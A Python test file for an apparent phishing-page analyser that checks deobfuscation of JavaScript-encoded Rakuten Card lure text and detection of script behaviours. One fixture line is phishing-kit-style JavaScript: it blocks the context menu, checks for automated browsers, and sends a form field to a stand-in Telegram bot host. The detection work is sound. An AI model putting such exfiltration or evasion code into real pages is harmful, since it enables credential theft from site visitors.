import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from noroshi.sites.analyse.scripts import decoded, script_facts

WORDS = "楽天カード 確認"
CODED = base64.b64encode(WORDS.encode()).decode()


@pytest.mark.parametrize(
    "code",
    [
        f"document.write(atob('{CODED}'))",
        "x='" + "".join(f"\\u{ord(letter):04x}" for letter in WORDS) + "'",
        f"String.fromCharCode({','.join(str(ord(letter)) for letter in WORDS)})",
        f"var a=[{','.join(str(ord(letter)) for letter in WORDS)}]",
        f"'{WORDS[::-1]}'.split('').reverse().join('')",
        "['" + "','".join(WORDS) + "'].join('')",
    ],
)
def test_encoded_words_are_read(code: str) -> None:
    assert WORDS in decoded(code)


def test_layers_are_peeled() -> None:
    inner = base64.b64encode(f'x="{CODED}";'.encode()).decode()
    assert WORDS in decoded(f"eval(atob('{inner}'))")


def test_plain_code_hides_nothing() -> None:
    assert decoded("function add(a, b) { return a + b }") == ""


def test_what_code_does_is_told() -> None:
    facts = script_facts(
        "document.oncontextmenu=()=>false;if(navigator.webdriver)x();"
        "fetch('https://api.telegram.org.test/bot1',{body:e.value});onbeforeunload=y"
    )
    assert facts.sends
    assert facts.guards >= 1
    assert facts.looks == 1
    assert facts.traps == 1
    assert facts.urls == ("https://api.telegram.org.test/bot1",)


@settings(deadline=None)
@given(st.text(max_size=400))
def test_any_text_is_taken(text: str) -> None:
    script_facts(text)


@settings(deadline=None)
@given(st.binary(max_size=200))
def test_any_octets_in_base64_are_taken(octets: bytes) -> None:
    decoded(f"atob('{base64.b64encode(octets).decode()}')")
